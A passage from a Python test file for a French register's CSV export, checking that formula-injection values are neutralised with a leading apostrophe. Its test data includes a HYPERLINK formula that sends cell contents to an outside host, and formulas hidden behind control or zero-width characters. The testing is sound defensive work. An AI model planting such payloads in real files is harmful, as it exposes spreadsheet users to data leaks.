        "Le fichier «\u00a0enorme.xml\u00a0» fait 200 Mo\u00a0: l'import accepte au plus 150 Mo. "
        "Aucune fiche n'a été importée.\n"
    )
    assert count(session) == 8  # only the sample, imported once


# --- formulas in the CSV ---------------------------------------------------------------------


def test_no_cell_of_the_csv_download_runs_as_a_formula(session: Session, browser: Any) -> None:
    """A value a spreadsheet would run (a formula, even behind blanks or control characters,
    or a cell starting with a tab or a line break) is downloaded as text: an apostrophe first.
    A carriage return is a line feed in the file, so a line break never starts a new row."""
    hyperlink = '\n=HYPERLINK("https://example.com/?"&A1;"Cliquez ici")'
    risky = {
        "objectifs_contexte": (hyperlink, "'" + hyperlink),
        "competences_attestees": (" \r\n+SUM(1;2)", "' \n+SUM(1;2)"),
        "modalites_evaluation": ("\x0b-2+3", "'\x0b-2+3"),
        "prerequis": ("\u00a0@SUM(A1)", "'\u00a0@SUM(A1)"),
        "public_vise": ("\tRéservé", "'\tRéservé"),
        "lien_url_description": ("\rhttps://example.com", "'\nhttps://example.com"),
        "type_enregistrement": ("\u200b\ufeff=1+2", "'\u200b\ufeff=1+2"),
    }
    moment = datetime(2025, 3, 10, 9, tzinfo=UTC)
    session.add(
        RegisterEntry(
            numero="INV00077",
            intitule="=1+1",
            categorie="A",
            autorite_legitime="Texte\r=HYPERLINK(A1)",
            certificateurs={"certificateurs": [{"nom": "Organisme = sérieux", "siret": None}]},
            content={name: value for name, (value, _shown) in risky.items()},
            date_decision=moment,
            debut_validite=moment,
            fin_validite=moment.replace(year=2028),
        )
    )
    session.commit()

    response = browser.get("/registre/export.csv")  # read whole, then closed

    assert response.status_code == 200
    body = io.StringIO(response.get_data(as_text=True), newline="")
    (row,) = csv.DictReader(body, delimiter=";")
    for name, (_value, shown) in risky.items():
        assert row[name] == shown, name
    # Not at the start of a cell: no formula, but never a row of its own either.
    assert row["autorite_legitime"] == "Texte\n=HYPERLINK(A1)"
    assert row["intitule"] == "'=1+1"
    assert row["certificateurs"] == "Organisme = sérieux"  # no formula: left as it is
    assert row["numero"] == "INV00077"
